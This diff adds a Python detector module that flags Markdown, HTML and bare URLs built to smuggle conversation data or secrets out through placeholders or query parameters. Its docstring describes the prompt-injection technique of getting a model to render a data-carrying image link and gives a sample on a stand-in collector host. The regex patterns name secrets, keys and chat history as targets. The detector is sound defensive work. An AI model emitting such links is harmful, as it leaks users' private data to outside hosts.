@@ -1,0 +1,114 @@
+"""Exfiltration: links and images whose address is built to carry data out.
+
+A model that writes a Markdown image ``![](https://collector.example/?q=...)`` makes the
+reader's client fetch it, so whatever the model put in the address leaves the
+conversation. A planted instruction therefore tends to show an address with a
+*placeholder* for the data (``{conversation}``, ``[SECRET]``, ``<user_email>``,
+``$HISTORY``, ``%7Bdata%7D``) or a query parameter named for it (``?chat_history=``).
+
+Placeholders for ordinary path parameters (``/orders/{order_id}``) are what API
+documentation looks like and are not counted: the placeholder or parameter must name
+conversation content, secrets or personal data. Images weigh more than links, because a
+client fetches them without a click. Data URIs are never addresses.
+"""
+
+from __future__ import annotations
+
+import re
+from dataclasses import dataclass
+from urllib.parse import parse_qsl, unquote, urlsplit
+
+MAX_URLS = 400
+MAX_URL = 4096
+
+_MD_LINK = re.compile(r"(!?)\[([^\]\n]{0,300})\]\(\s*<?([^)\s>]{1,4096})>?(?:\s+\"[^\"\n]{0,200}\")?"
+                      r"\s*\)")
+_HTML_URL = re.compile(r"<(img|a|iframe|source|embed|object|form|link|script)\b[^>]{0,800}?"
+                       r"\b(?:src|href|data|action)\s*=\s*[\"']?([^\"'\s>]{1,4096})", re.I)
+_BARE_URL = re.compile(r"https?://[^\s<>\"')\]]{1,4096}")
+_PLACEHOLDER = re.compile(r"\{\{?\s*([A-Za-z_][\w .-]{0,40}?)\s*\}\}?|\[([A-Z_][A-Z0-9_ ]{1,40})\]|"
+                          r"<([A-Za-z_][A-Za-z0-9_ ]{1,40})>|\$\{?([A-Za-z_][A-Za-z0-9_]{1,40})\}?|"
+                          r"%7[bB]([\w%.-]{1,60}?)%7[dD]|(X{4,})")
+SENSITIVE = re.compile(
+    r"conversation|convo|chat|histor|messages?|transcript|prompt|instruction|context|memory|"
+    r"secret|token|api_?key|apikey|passw|passwd|pwd|credential|creds|session|cookie|e_?mail|"
+    r"user|personal|pii|ssn|phone|address|summary|answer|response|reply|output|question|"
+    r"query|payload|exfil|leak|dump|stolen|data|info|details|content|b64|base64|name", re.I)
+STRONG_PARAM = re.compile(
+    r"^(?:conversation|convo|chat|chat_?history|history|chatlog|transcript|prompt|"
+    r"system_?prompt|secret|secrets|api_?key|apikey|password|passwd|credentials|creds|memory|"
+    r"exfil|leak|dump|stolen|user_?data|userdata|pii|messages)$", re.I)
+
+
+@dataclass
+class UrlHit:
+    weight: float
+    start: int
+    end: int
+    url: str
+    kind: str  # image | link | address
+    why: str
+
+
+def judge(url: str, kind: str) -> tuple[float, str] | None:
+    """How suspicious one address is, and why; None when it looks ordinary."""
+    url = url[:MAX_URL]
+    if url.lower().startswith(("data:", "mailto:", "tel:", "#", "javascript:")):
+        return None
+    if "{" not in url and "%7b" not in url.lower() and "[" not in url and "$" not in url \
+            and "<" not in url and "XXXX" not in url and "?" not in url:
+        return None
+    image = kind == "image"
+    for m in _PLACEHOLDER.finditer(url):
+        name = next((g for g in m.groups() if g), "")
+        if SENSITIVE.search(unquote(name)):
+            return (0.5 if image else 0.4,
+                    f"the address has a placeholder for data ({m.group()[:60]})")
+    try:
+        query = urlsplit(url).query
+    except ValueError:
+        return None
+    for key, value in parse_qsl(query, keep_blank_values=True)[:50]:
+        if STRONG_PARAM.match(key.strip()):
+            if not value or _PLACEHOLDER.search(value) or len(value) > 80:
+                return (0.35 if image else 0.25,
+                        f"the query parameter {key[:40]!r} is named for conversation content "
+                        "or secrets and is left for the model to fill")
+    return None
+
+
+def scan(text: str, links: list[tuple[str, str]] | None = None,
+         ) -> list[UrlHit]:
+    """Suspicious addresses in ``text`` (Markdown, inline HTML, bare URLs) and ``links``.
+
+    ``links`` are ``(url, kind)`` pairs already taken from an HTML tree; their spans are
+    unknown (``-1``).
+    """
+    hits: list[UrlHit] = []
+    seen: set[str] = set()
+    count = 0
+
+    def consider(url: str, kind: str, start: int, end: int) -> None:
+        nonlocal count
+        count += 1
+        if count > MAX_URLS or url in seen:
+            return
+        verdict = judge(url, kind)
+        if verdict is not None:
+            seen.add(url)
+            hits.append(UrlHit(verdict[0], start, end, url[:300], kind, verdict[1]))
+
+    if "](" in text:
+        for m in _MD_LINK.finditer(text):
+            consider(m.group(3), "image" if m.group(1) else "link", m.start(), m.end())
+    if "<" in text:
+        for m in _HTML_URL.finditer(text):
+            tag = m.group(1).lower()
+            consider(m.group(2), "image" if tag in ("img", "source", "embed") else "link",
+                     m.start(), m.end())
+    if "://" in text:
+        for m in _BARE_URL.finditer(text):
+            consider(m.group(), "address", m.start(), m.end())
+    for url, kind in links or []:
+        consider(url, kind, -1, -1)
+    return hits
